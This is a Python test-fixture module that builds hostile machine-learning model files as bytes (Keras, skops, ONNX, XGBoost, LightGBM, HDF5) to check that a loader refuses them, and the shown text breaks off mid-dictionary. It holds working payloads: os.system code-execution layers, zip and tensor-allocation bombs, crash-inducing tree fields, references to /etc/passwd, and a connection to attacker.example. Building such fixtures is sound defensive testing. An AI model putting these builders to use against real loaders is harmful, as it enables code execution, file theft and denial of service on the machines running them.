"""Hostile model files, built from scratch as bytes (tests and benchmarks/hostile_inputs.py reuse them).

Each function returns the bytes of a file that attacks the loader that would read it: code run on
load (Keras `Lambda` / `TFOpLambda` naming any importable function), archives that expand far past
their size, extra archive entries, skops types outside scikit-learn, and ONNX files that point outside
themselves. None of them is harmful to a loader that checks before it reads.
"""

from __future__ import annotations

import io
import json
import os
import re
import tempfile
import zipfile

KERAS_METADATA = json.dumps({"keras_version": "2.15.0", "date_saved": "2026-01-01@00:00:00"})
CHUNK = b" " * (1 << 20)


def _input_layer(name: str = "input_1", width: int = 2) -> dict:
    return {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": name,
            "config": {"batch_input_shape": [None, width], "dtype": "float32", "sparse": False,
                       "ragged": False, "name": name}, "inbound_nodes": []}


def _functional(layers: list[dict], output: str) -> dict:
    return {"module": "keras.src.engine.functional", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "model", "trainable": True, "layers": layers,
                       "input_layers": [["input_1", 0, 0]], "output_layers": [[output, 0, 0]]}}


def _keras_archive(config: dict, weights: bytes = b"", extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", KERAS_METADATA)
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", weights)
        for name, data in (extra or {}).items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return buffer.getvalue()


def keras_lambda_os_system(command: str) -> bytes:
    """A `Lambda` layer whose function is `os.system`, called on a `_CONSTANT_VALUE` node holding `command`.

    Keras 2.15 runs `command` while rebuilding the model, even with `safe_mode=True`."""
    evil = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "evil",
            "config": {"name": "evil", "trainable": True, "dtype": "float32",
                       "function": {"module": "os", "class_name": "function", "config": "system",
                                    "registered_name": "function"},
                       "function_type": "function", "module": "os", "output_shape": None,
                       "output_shape_type": "raw", "output_shape_module": None, "arguments": {}},
            "inbound_nodes": [[["_CONSTANT_VALUE", -1, command, {}]]]}
    return _keras_archive(_functional([_input_layer(), evil], "evil"))


def keras_tfoplambda_write_file(path: str, contents: str = "written by a model file") -> bytes:
    """A `TFOpLambda` layer calling `tf.io.write_file(path, contents)` while the model is rebuilt."""
    evil = {"module": "keras.src.layers.core.tf_op_layer", "class_name": "TFOpLambda",
            "registered_name": "TFOpLambda", "name": "tf.io.write_file",
            "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32",
                       "function": "io.write_file"},
            "inbound_nodes": [["_CONSTANT_VALUE", -1, path, {"contents": contents}]]}
    return _keras_archive(_functional([_input_layer(), evil], "tf.io.write_file"))


def _inflating_member(archive: zipfile.ZipFile, name: str, prefix: bytes, megabytes: int, suffix: bytes) -> None:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=True) as handle:
        handle.write(prefix)
        for _ in range(megabytes):
            handle.write(CHUNK)
        handle.write(suffix)


def keras_inflating_config(megabytes: int = 400) -> bytes:
    """A .keras whose config.json is a small valid config padded with `megabytes` MB of whitespace
    (deflated to well under 1 MB)."""
    config = json.dumps(_functional([_input_layer()], "input_1")).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", KERAS_METADATA)
        _inflating_member(archive, "config.json", config[:-1], megabytes, b"}")
        archive.writestr("model.weights.h5", b"")
    return buffer.getvalue()


def skops_inflating_schema(megabytes: int = 400) -> bytes:
    """A .skops whose schema.json is padded with `megabytes` MB of whitespace (deflated)."""
    schema = json.dumps({"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
                         "content": {}, "protocol": 2, "_skops_version": "0.16.0"}).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        _inflating_member(archive, "schema.json", schema[:-1], megabytes, b"}")
    return buffer.getvalue()


def keras_extra_entry(valid_keras: bytes, megabytes: int = 1024) -> bytes:
    """A valid .keras file plus one extra entry of `megabytes` MB of zeros (about 1 MB compressed)."""
    buffer = io.BytesIO(valid_keras)
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("assets/padding.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        zeros = bytes(1 << 20)
        with archive.open(info, "w", force_zip64=True) as handle:
            for _ in range(megabytes):
                handle.write(zeros)
    return buffer.getvalue()


def skops_os_system() -> bytes:
    """A scikit-learn pipeline whose FunctionTransformer calls `os.system` on its input (a skops
    function node naming module `os`, function `system`)."""
    import numpy as np
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    rng = np.random.default_rng(0)
    pipeline = make_pipeline(FunctionTransformer(func=np.abs), LogisticRegression())
    pipeline.fit(rng.normal(size=(40, 2)), [0, 1] * 20)
    source = zipfile.ZipFile(io.BytesIO(sio.dumps(pipeline)))
    schema = source.read("schema.json").decode()
    schema = re.sub(r'"__class__": "absolute",(\s*)"__module__": "[\w.]+",',
                    r'"__class__": "system",\1"__module__": "os",', schema)
    assert '"__module__": "os"' in schema
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            archive.writestr(info.filename, schema if info.filename == "schema.json" else source.read(info))
    return buffer.getvalue()


def _onnx_matmul(initializer) -> bytes:
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["logits"]),
                               helper.make_node("Softmax", ["logits"], ["probabilities"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
                              [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])],
                              [initializer])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


def onnx_external_data(location: str = "../../etc/passwd") -> bytes:
    """An ONNX MLP whose weight tensor says its data lives in the file `location`."""
    from onnx import TensorProto, helper

    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2, 2])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    return _onnx_matmul(weight)


def onnx_custom_domain() -> bytes:
    """An ONNX model calling an operator from a custom domain (a custom-op library would run it)."""
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("RunShell", ["x"], ["probabilities"], domain="com.example.evil")],
                              "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
                              [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17),
                                                   helper.make_opsetid("com.example.evil", 1)]).SerializeToString()


def onnx_valid_mlp() -> bytes:
    """A small valid ONNX model: softmax(x @ w), two inputs, two classes."""
    from onnx import TensorProto, helper

    return _onnx_matmul(helper.make_tensor("w", TensorProto.FLOAT, [2, 2], vals=[0.5, -0.5, -0.25, 0.25]))


def onnx_constant_of_shape_bomb(side: int = 20000) -> bytes:
    """A few hundred bytes asking onnxruntime for a side x side float tensor (20000: 1.6 GB) before it
    sums it away: softmax(x + sum(ConstantOfShape([side, side])))."""
    from onnx import TensorProto, helper

    shape = helper.make_tensor("shape", TensorProto.INT64, [2], vals=[side, side])
    graph = helper.make_graph([helper.make_node("ConstantOfShape", ["shape"], ["big"], name="bomb"),
                               helper.make_node("ReduceSum", ["big"], ["total"], keepdims=1),
                               helper.make_node("Add", ["x", "total"], ["logits"]),
                               helper.make_node("Softmax", ["logits"], ["probabilities"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
                              [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])],
                              [shape])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


def keras_valid_mlp() -> bytes:
    """A small valid .keras file (Dense 2 -> 8 -> 2), saved by tf.keras itself."""
    import os
    import tempfile

    import tensorflow as tf

    tf.keras.utils.set_random_seed(0)
    model = tf.keras.Sequential([tf.keras.Input(shape=(2,)), tf.keras.layers.Dense(8, activation="relu"),
                                 tf.keras.layers.Dense(2, activation="softmax")])
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "mlp.keras")
        # "keras_v3", not a plain save: Keras 2.15 keeps "save .keras as the v3 zip" in a thread-local flag set
        # only in the thread that imported it; once Keras was imported in another thread (an AppTest page) a
        # save in this thread turns the flag off and the next ".keras" comes out as HDF5.
        model.save(path, save_format="keras_v3")
        with open(path, "rb") as handle:
            return handle.read()


# What benchmarks/hostile_inputs.py measures: label -> (file name, builder). The code-running files write
# a marker in the temporary folder if they ever run; the loader must refuse them before that.
MARKER = os.path.join(tempfile.gettempdir(), "privacy-audit-hostile-marker")
HOSTILE_MODELS = {
    "keras Lambda os.system + _CONSTANT_VALUE": ("lambda.keras", lambda: keras_lambda_os_system(f"touch {MARKER}")),
    "keras TFOpLambda io.write_file": ("tfop.keras", lambda: keras_tfoplambda_write_file(MARKER)),
    "keras config.json inflating to 400 MB": ("inflating.keras", keras_inflating_config),
    "keras valid + 1 GB extra entry": ("extra.keras", lambda: keras_extra_entry(keras_valid_mlp())),
    "skops schema.json inflating to 400 MB": ("inflating.skops", skops_inflating_schema),
    "skops FunctionTransformer os.system": ("os_system.skops", skops_os_system),
    "onnx external data ../../etc/passwd": ("external.onnx", onnx_external_data),
    "onnx custom operator domain": ("custom.onnx", onnx_custom_domain),
    "onnx ConstantOfShape [20000, 20000]": ("bomb.onnx", onnx_constant_of_shape_bomb),
}


# ---------------------------------------------------------------- structural attacks on native loaders (issue 20)
# Files of 1-2 KB that crash (SIGSEGV / heap corruption), hang or exhaust memory in XGBoost, LightGBM,
# scikit-learn's Cython trees, onnxruntime, HDF5 or Keras when their native loaders trust them. Each is
# refused by a structural check before the native loader sees it (tests/security/test_structural_checks.py).

def _xgboost_model(categorical: bool = False, classes: int = 2) -> dict:
    """A small real XGBoost model as the dict of its JSON (3 features, 2 rounds of depth-2 trees)."""
    import numpy as np
    import pandas as pd
    import xgboost as xgb

    rng = np.random.default_rng(0)
    x = pd.DataFrame(rng.normal(size=(200, 3)), columns=["a", "b", "c"])
    if categorical:
        x["c"] = pd.Categorical(rng.integers(0, 6, 200))
    y = rng.integers(0, classes, 200)
    model = xgb.XGBClassifier(n_estimators=2, max_depth=2, n_jobs=1, random_state=0, tree_method="hist",
                              enable_categorical=categorical, max_cat_to_onehot=1).fit(x, y)
    return json.loads(bytes(model.get_booster().save_raw("json")))


def ubj_encode(value) -> bytes:
    """Universal Binary JSON as XGBoost writes it (typed int64 / float64 arrays for number lists)."""
    import struct

    def length(n: int) -> bytes:
        return b"L" + struct.pack(">q", n)

    if isinstance(value, dict):
        return b"{" + b"".join(length(len(k.encode())) + k.encode() + ubj_encode(v) for k, v in value.items()) + b"}"
    if isinstance(value, list):
        if value and all(isinstance(v, int) and not isinstance(v, bool) for v in value):
            return b"[$L#" + length(len(value)) + b"".join(struct.pack(">q", v) for v in value)
        if value and all(isinstance(v, (int, float)) and not isinstance(v, bool) for v in value):
            return b"[$D#" + length(len(value)) + b"".join(struct.pack(">d", v) for v in value)
        return b"[" + b"".join(ubj_encode(v) for v in value) + b"]"
    if isinstance(value, bool):
        return b"T" if value else b"F"
    if isinstance(value, int):
        return b"L" + struct.pack(">q", value)
    if isinstance(value, float):
        return b"D" + struct.pack(">d", value)
    if value is None:
        return b"Z"
    data = str(value).encode()
    return b"S" + length(len(data)) + data


def _xgboost_file(model: dict, fmt: str) -> bytes:
    return json.dumps(model).encode() if fmt == "json" else ubj_encode(model)


def _first_tree(model: dict) -> dict:
    return model["learner"]["gradient_booster"]["model"]["trees"][0]


def xgboost_tree_attack(attack: str, fmt: str = "json") -> bytes:
    """A real XGBoost model with one field of one tree (or of the model) set to what the issue found.

    attack: categorical_segment (a categorical split's segment past `categories`), size_leaf_vector
    (1e9), own_child (the root is its own left child), child_1e8, child_minus_5, split_feature_1e9,
    tree_info_1e6, tree_info_class (a class the binary model does not have), short_array (split_indices
    one entry short), shared_node (two nodes with the same child)."""
    model = _xgboost_model(categorical=attack == "categorical_segment")
    tree = _first_tree(model)
    if attack == "categorical_segment":
        trees = model["learner"]["gradient_booster"]["model"]["trees"]
        tree = next(t for t in trees if t["categories_nodes"])
        tree["categories_segments"][0] = len(tree["categories"]) + 1_000_000
    elif attack == "size_leaf_vector":
        tree["tree_param"]["size_leaf_vector"] = "1000000000"
    elif attack == "own_child":
        tree["left_children"][0] = 0
    elif attack == "child_1e8":
        tree["left_children"][0] = 100_000_000
    elif attack == "child_minus_5":
        tree["right_children"][0] = -5
    elif attack == "split_feature_1e9":
        tree["split_indices"][0] = 1_000_000_000
    elif attack == "tree_info_1e6":
        model["learner"]["gradient_booster"]["model"]["tree_info"][0] = 1_000_000
    elif attack == "tree_info_class":
        model["learner"]["gradient_booster"]["model"]["tree_info"][-1] = 1
    elif attack == "short_array":
        tree["split_indices"] = tree["split_indices"][:-1]
    elif attack == "shared_node":
        tree["right_children"][0] = tree["left_children"][0]
    else:
        raise ValueError(attack)
    return _xgboost_file(model, fmt)


def xgboost_valid(fmt: str = "json") -> bytes:
    return _xgboost_file(_xgboost_model(), fmt)


LIGHTGBM_TREE = """Tree=0
num_leaves=3
num_cat=0
split_feature=0 1
split_gain=1 1
threshold=0.5 0.5
decision_type=2 2
left_child=1 -1
right_child=-3 -2
leaf_value=0.1 -0.1 0.2
leaf_weight=1 1 1
leaf_count=10 10 10
internal_value=0 0
internal_weight=1 1
internal_count=30 20
is_linear=0
shrinkage=1


"""


def lightgbm_text(tree: str = LIGHTGBM_TREE, header: dict | None = None, parameters: dict | None = None) -> bytes:
    """A LightGBM binary model (2 features) in text form with one tree block, written by hand."""
    fields = {"version": "v4", "num_class": "1", "num_tree_per_iteration": "1", "label_index": "0",
              "max_feature_idx": "1", "objective": "binary sigmoid:1", "feature_names": "a b",
              "feature_infos": "[0:1] [0:1]", "tree_sizes": str(len(tree.encode())), **(header or {})}
    params = {"boosting": "gbdt", "objective": "binary", "num_leaves": "3", "learning_rate": "0.1",
              "num_iterations": "1", **(parameters or {})}
    head = "tree\n" + "".join(f"{k}={v}\n" for k, v in fields.items() if v is not None) + "\n"
    tail = ("end of trees\n\nfeature_importances:\na=1\nb=1\n\nparameters:\n"
            + "".join(f"[{k}: {v}]\n" for k, v in params.items()) + "\nend of parameters\n\npandas_categorical:null\n")
    return (head + tree + tail).encode()


def lightgbm_tree_attack(attack: str) -> bytes:
    """The hand-written LightGBM model with one tree field changed.

    attack: split_feature_1e8, child_1e8, num_leaves_1e9, tree_sizes_lie, cycle (node 1's child is
    node 1), negative_leaf (a child ~leaf far past num_leaves), cat_boundaries (a categorical split whose
    boundaries reach past cat_threshold)."""
    tree, header = LIGHTGBM_TREE, {}
    if attack == "split_feature_1e8":
        tree = tree.replace("split_feature=0 1", "split_feature=0 100000000")
    elif attack == "child_1e8":
        tree = tree.replace("left_child=1 -1", "left_child=100000000 -1")
    elif attack == "num_leaves_1e9":
        tree = tree.replace("num_leaves=3", "num_leaves=1000000000")
    elif attack == "tree_sizes_lie":
        header = {"tree_sizes": "100000000"}
    elif attack == "cycle":
        tree = tree.replace("left_child=1 -1", "left_child=1 1")
    elif attack == "negative_leaf":
        tree = tree.replace("right_child=-3 -2", "right_child=-3 -1000001")
    elif attack == "cat_boundaries":
        tree = tree.replace("num_cat=0", "num_cat=1").replace("decision_type=2 2", "decision_type=1 2") \
            .replace("threshold=0.5 0.5", "threshold=0 0.5").replace("is_linear=0", "cat_boundaries=0 100000\n"
                                                                        "cat_threshold=5\nis_linear=0")
    else:
        raise ValueError(attack)
    if "tree_sizes" not in header:
        header["tree_sizes"] = str(len(tree.encode()))
    return lightgbm_text(tree, header)


def lightgbm_network_parameters(host: str = "attacker.example", port: int = 12400) -> bytes:
    """A valid LightGBM model whose parameters block asks distributed training to connect to `host:port`
    and listen on `local_listen_port` (LightGBM passes them to its socket code when given to lgb.train)."""
    return lightgbm_text(parameters={"machines": f"{host}:{port},127.0.0.1:{port + 1}", "num_machines": "2",
                                     "local_listen_port": str(port + 1), "time_out": "1",
                                     "machine_list_filename": "/etc/hosts", "tree_learner": "data",
                                     "num_threads": "64", "device_type": "gpu",
                                     "forcedsplits_filename": "/etc/passwd", "output_model": "/tmp/owned.txt"})


def _skops_rewrite(model, change) -> bytes:
    """skops bytes of `model` with `change(member_name, array) -> array or None` applied to its .npy arrays."""
    import numpy as np
    import skops.io as sio

    source = zipfile.ZipFile(io.BytesIO(sio.dumps(model)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith(".npy"):
                array = np.load(io.BytesIO(data), allow_pickle=False)
                changed = change(info.filename, array)
                if changed is not None:
                    out = io.BytesIO()
                    np.save(out, changed, allow_pickle=False)
                    data = out.getvalue()
            archive.writestr(info.filename, data)
    return buffer.getvalue()


def _fitted(kind: str):
    import numpy as np
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    x, y = rng.normal(size=(120, 3)), rng.integers(0, 2, 120)
    model = {"tree": DecisionTreeClassifier(max_depth=3, random_state=0),
             "forest": RandomForestClassifier(n_estimators=4, max_depth=3, random_state=0),
             "hgb": HistGradientBoostingClassifier(max_iter=3, max_depth=3, random_state=0)}[kind]
    return model.fit(x, y)


def skops_tree_attack(attack: str) -> bytes:
    """A .skops decision tree (or forest / histogram gradient boosting) with its node arrays changed.

    attack: child_1e8, feature_1e8, cycle (a node's child is the root), forest_last_tree (the last tree
    of a random forest has a child of 1e8), hgb_cycle (a TreePredictor node whose child is the root),
    npy_header (the node array's header declares 10^12 rows)."""
    kind = {"forest_last_tree": "forest", "hgb_cycle": "hgb"}.get(attack, "tree")
    model = _fitted(kind)
    state = {"done": False, "trees": 0}

    def change(member: str, array):
        names = array.dtype.names or ()
        if "left_child" in names:
            state["trees"] += 1
            if kind == "forest" and state["trees"] < len(model.estimators_):
                return None
            array = array.copy()
            inner = int((array["left_child"] != -1).nonzero()[0][-1])
            if attack in ("child_1e8", "forest_last_tree"):
                array["left_child"][inner] = 100_000_000
            elif attack == "feature_1e8":
                array["feature"][0] = 100_000_000
            elif attack == "cycle":
                array["right_child"][inner] = 0
            elif attack == "npy_header":
                return "npy_header"
            return array
        if "is_leaf" in names and not state["done"]:
            state["done"] = True
            array = array.copy()
            inner = int((array["is_leaf"] == 0).nonzero()[0][-1])
            array["left"][inner] = 0
            return array
        return None

    if attack != "npy_header":
        return _skops_rewrite(model, change)
    import skops.io as sio

    source = zipfile.ZipFile(io.BytesIO(sio.dumps(model)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            data = source.read(info)
            if b"left_child" in data[:300]:
                header_end = data.index(b"\n") + 1
                header = data[:header_end].decode("latin-1")
                header = re.sub(r"'shape': \(\d+,\)", "'shape': (1000000000000,)", header)
                data = header.encode("latin-1") + data[header_end:]
            archive.writestr(info.filename, data)
    return buffer.getvalue()


def skops_valid(kind: str = "forest") -> bytes:
    import skops.io as sio

    return sio.dumps(_fitted(kind))


def _onnx_model(nodes: list, initializers: list = (), inputs: list | None = None, outputs: list | None = None,
                opset: int = 17) -> bytes:
    from onnx import TensorProto, helper

    graph = helper.make_graph(nodes, "g", inputs or [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
                              outputs or [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])],
                              list(initializers))
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", opset)]).SerializeToString()


def _summed_into_output(big: str) -> list:
    """softmax(x + sum(big)): the attack tensor feeds the output, so nothing can prune it."""
    from onnx import helper

    return [helper.make_node("ReduceSum", [big], ["total"], keepdims=0),
            helper.make_node("Add", ["x", "total"], ["logits"]),
            helper.make_node("Softmax", ["logits"], ["probabilities"])]


def onnx_loop_2_62() -> bytes:
    """A Loop whose trip count is 2^62 (each iteration adds 1 to a counter): runs until killed."""
    from onnx import TensorProto, helper

    body = helper.make_graph([helper.make_node("Add", ["acc_in", "one"], ["acc_out"]),
                              helper.make_node("Identity", ["cond_in"], ["cond_out"])], "body",
                             [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                              helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                              helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [])],
                             [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
                              helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [])],
                             [helper.make_tensor("one", TensorProto.FLOAT, [], [1.0])])
    nodes = [helper.make_node("Loop", ["trips", "cond", "zero"], ["big"], body=body, name="forever"),
             *_summed_into_output("big")]
    return _onnx_model(nodes, [helper.make_tensor("trips", TensorProto.INT64, [], [2 ** 62]),
                               helper.make_tensor("cond", TensorProto.BOOL, [], [True]),
                               helper.make_tensor("zero", TensorProto.FLOAT, [], [0.0])])


def onnx_broadcast_cube() -> bytes:
    """(N,1,1) * (1,N,1) * (1,1,N) from the first input column: N^3 floats (4 GB at 500 rows)."""
    from onnx import TensorProto, helper

    node = helper.make_node
    nodes = [node("Slice", ["x", "zero", "one", "one"], ["col"]),              # (N, 1)
             node("Unsqueeze", ["col", "axis2"], ["a"]),                      # (N, 1, 1)
             node("Transpose", ["a"], ["b"], perm=[1, 0, 2]),                  # (1, N, 1)
             node("Transpose", ["a"], ["c"], perm=[1, 2, 0]),                  # (1, 1, N)
             node("Mul", ["a", "b"], ["ab"]), node("Mul", ["ab", "c"], ["big"], name="cube"),
             *_summed_into_output("big")]
    ints = lambda n, v: helper.make_tensor(n, TensorProto.INT64, [len(v)], v)  # noqa: E731
    return _onnx_model(nodes, [ints("zero", [0]), ints("one", [1]), ints("axis2", [2])])


def onnx_constant_of_shape_rows_cubed() -> bytes:
    """ConstantOfShape(Concat(n, n, n)) with n = Shape(X)[0]: N^3 floats, sized by the rows scored."""
    from onnx import TensorProto, helper

    node = helper.make_node
    nodes = [node("Shape", ["x"], ["shape"]), node("Slice", ["shape", "zero", "one"], ["n"]),
             node("Concat", ["n", "n", "n"], ["size"], axis=0),
             node("ConstantOfShape", ["size"], ["big"], name="fill"), *_summed_into_output("big")]
    ints = lambda n, v: helper.make_tensor(n, TensorProto.INT64, [len(v)], v)  # noqa: E731
    return _onnx_model(nodes, [ints("zero", [0]), ints("one", [1])])


def onnx_window_from_data(op: str = "HannWindow") -> bytes:
    """A HannWindow (or Hamming / Blackman) whose length is the largest value in the data."""
    from onnx import TensorProto, helper

    node = helper.make_node
    nodes = [node("ReduceMax", ["x"], ["m"], keepdims=0), node("Cast", ["m"], ["size"], to=TensorProto.INT64),
             node(op, ["size"], ["big"], name="window"), *_summed_into_output("big")]
    return _onnx_model(nodes)


def onnx_window_constant(size: int = 500_000_000) -> bytes:
    """HannWindow(500,000,000): 2 GB of float32 from a constant."""
    from onnx import TensorProto, helper

    nodes = [helper.make_node("HannWindow", ["size"], ["big"], name="window"), *_summed_into_output("big")]
    return _onnx_model(nodes, [helper.make_tensor("size", TensorProto.INT64, [], [size])])


def onnx_expand_rows_squared() -> bytes:
    """Expand(x[:, :1], Concat(n, n)) with n from Shape(X): N x N floats (10^8 at 10,000 rows)."""
    from onnx import TensorProto, helper

    node = helper.make_node
    nodes = [node("Shape", ["x"], ["shape"]), node("Slice", ["shape", "zero", "one"], ["n"]),
             node("Concat", ["n", "n"], ["size"], axis=0), node("Slice", ["x", "zero", "one", "one"], ["col"]),
             node("Expand", ["col", "size"], ["big"], name="square"), *_summed_into_output("big")]
    ints = lambda n, v: helper.make_tensor(n, TensorProto.INT64, [len(v)], v)  # noqa: E731
    return _onnx_model(nodes, [ints("zero", [0]), ints("one", [1])])


def onnx_tile_rows_squared() -> bytes:
    """Tile(x, Concat(n, n)) with n from Shape(X): shape inference leaves the output [?, ?] although it is
    (N*N, 2*N): 2 N^3 floats (250 million at 500 rows)."""
    from onnx import TensorProto, helper

    node = helper.make_node
    nodes = [node("Shape", ["x"], ["shape"]), node("Slice", ["shape", "zero", "one"], ["n"]),
             node("Concat", ["n", "n"], ["reps"], axis=0), node("Tile", ["x", "reps"], ["big"], name="tile"),
             *_summed_into_output("big")]
    ints = lambda n, v: helper.make_tensor(n, TensorProto.INT64, [len(v)], v)  # noqa: E731
    return _onnx_model(nodes, [ints("zero", [0]), ints("one", [1])])


def onnx_range_rows_squared() -> bytes:
    """Range(0, n * n, 1) with n from Shape(X): N^2 values, computed by arithmetic on the shape."""
    from onnx import TensorProto, helper

    node = helper.make_node
    nodes = [node("Shape", ["x"], ["shape"]), node("Gather", ["shape", "first"], ["n"]),
             node("Mul", ["n", "n"], ["nn"]), node("Cast", ["nn"], ["limit"], to=TensorProto.FLOAT),
             node("Range", ["start", "limit", "step"], ["big"], name="range"), *_summed_into_output("big")]
    return _onnx_model(nodes, [helper.make_tensor("first", TensorProto.INT64, [], [0]),
                               helper.make_tensor("start", TensorProto.FLOAT, [], [0.0]),
                               helper.make_tensor("step", TensorProto.FLOAT, [], [1.0])])


def onnx_random_normal(shape: tuple = (30000, 30000)) -> bytes:
    """RandomNormal with a shape attribute of 900 million values (3.6 GB of float32)."""
    from onnx import helper

    nodes = [helper.make_node("RandomNormal", [], ["big"], shape=list(shape), name="noise"),
             *_summed_into_output("big")]
    return _onnx_model(nodes)


def onnx_if_branch() -> bytes:
    """An If node with two subgraphs (control flow in a model that is only scored)."""
    from onnx import TensorProto, helper

    def branch(value: float):
        return helper.make_graph([helper.make_node("Constant", [], ["out"], value=helper.make_tensor(
            "v", TensorProto.FLOAT, [], [value]))], "branch", [],
            [helper.make_tensor_value_info("out", TensorProto.FLOAT, [])])

    nodes = [helper.make_node("If", ["cond"], ["big"], then_branch=branch(1.0), else_branch=branch(0.0),
                              name="choose"), *_summed_into_output("big")]
    return _onnx_model(nodes, [helper.make_tensor("cond", TensorProto.BOOL, [], [True])])


def onnx_torch_like_mlp() -> bytes:
    """What torch.onnx.export writes for a small MLP with a dynamic batch: Gemm / Relu / Gemm / Softmax,
    input [batch_size, 4] (a named dynamic dimension), plus the Shape/Gather/Concat/Reshape of a Flatten."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(0)
    node = helper.make_node
    weights = [numpy_helper.from_array(rng.normal(size=s).astype(np.float32), n)
               for n, s in (("w1", (16, 4)), ("b1", (16,)), ("w2", (2, 16)), ("b2", (2,)))]
    ints = lambda n, v: helper.make_tensor(n, TensorProto.INT64, [len(v)], v)  # noqa: E731
    nodes = [node("Shape", ["x"], ["shape"]), node("Gather", ["shape", "idx0"], ["batch"], axis=0),
             node("Unsqueeze", ["batch", "axes0"], ["batch1"]), node("Concat", ["batch1", "minus1"], ["flat"], axis=0),
             node("Reshape", ["x", "flat"], ["xf"]),
             node("Gemm", ["xf", "w1", "b1"], ["h"], transB=1), node("Relu", ["h"], ["hr"]),
             node("Gemm", ["hr", "w2", "b2"], ["logits"], transB=1),
             node("Softmax", ["logits"], ["probabilities"], axis=1)]
    inits = [*weights, helper.make_tensor("idx0", TensorProto.INT64, [], [0]), ints("axes0", [0]), ints("minus1", [-1])]
    return _onnx_model(nodes, inits, [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch_size", 4])],
                       [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, ["batch_size", 2])])


def _h5(build) -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as handle:
        build(handle)
    return buffer.getvalue()


def h5_weights_attack(attack: str) -> bytes:
    """Keras weights (HDF5) with: hard_link_cycle (a group linked inside itself), soft_link (to a path
    outside the weights), external_link (to /etc/passwd), virtual_dataset (data mapped from another file)."""
    import h5py

    def build(handle):
        group = handle.create_group("layers/dense/vars")
        group["0"] = [[0.5, -0.5], [-0.25, 0.25]]
        if attack == "hard_link_cycle":
            handle["layers/dense/vars/loop"] = handle["layers"]
        elif attack == "soft_link":
            group["1"] = h5py.SoftLink("/../../etc/passwd")
        elif attack == "external_link":
            group["1"] = h5py.ExternalLink("/etc/passwd", "/data")
        elif attack == "virtual_dataset":
            layout = h5py.VirtualLayout(shape=(1000,), dtype="f4")
            layout[:] = h5py.VirtualSource("/etc/passwd", "data", shape=(1000,))
            group.create_virtual_dataset("1", layout, fillvalue=0)
        else:
            raise ValueError(attack)

    return _h5(build)


def keras_with_weights(weights: bytes) -> bytes:
    """A valid small Keras config (Dense 2 -> 2) with the given weights file."""
    dense = {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "name": "dense",
             "config": {"name": "dense", "units": 2, "activation": "softmax"},
             "inbound_nodes": [[["input_1", 0, 0, {}]]]}
    return _keras_archive(_functional([_input_layer(), dense], "dense"), weights)


def keras_huge_layer(class_name: str = "Dense", **config) -> bytes:
    """A Functional config of Input(2) -> one layer: Dense(units=1e8), CategoryEncoding(num_tokens=2e9),
    Embedding(input_dim, output_dim), LSTM(units) ... (no weights: Keras would allocate them on build)."""
    layer = {"module": "keras.layers", "class_name": class_name, "registered_name": None, "name": "huge",
             "config": {"name": "huge", **config}, "inbound_nodes": [[["input_1", 0, 0, {}]]]}
    return _keras_archive(_functional([_input_layer(), layer], "huge"))


HOSTILE_MODELS.update({
    **{f"xgboost json {a}": (f"{a}.json", lambda a=a: xgboost_tree_attack(a, "json"))
       for a in ("categorical_segment", "size_leaf_vector", "own_child", "child_1e8", "child_minus_5",
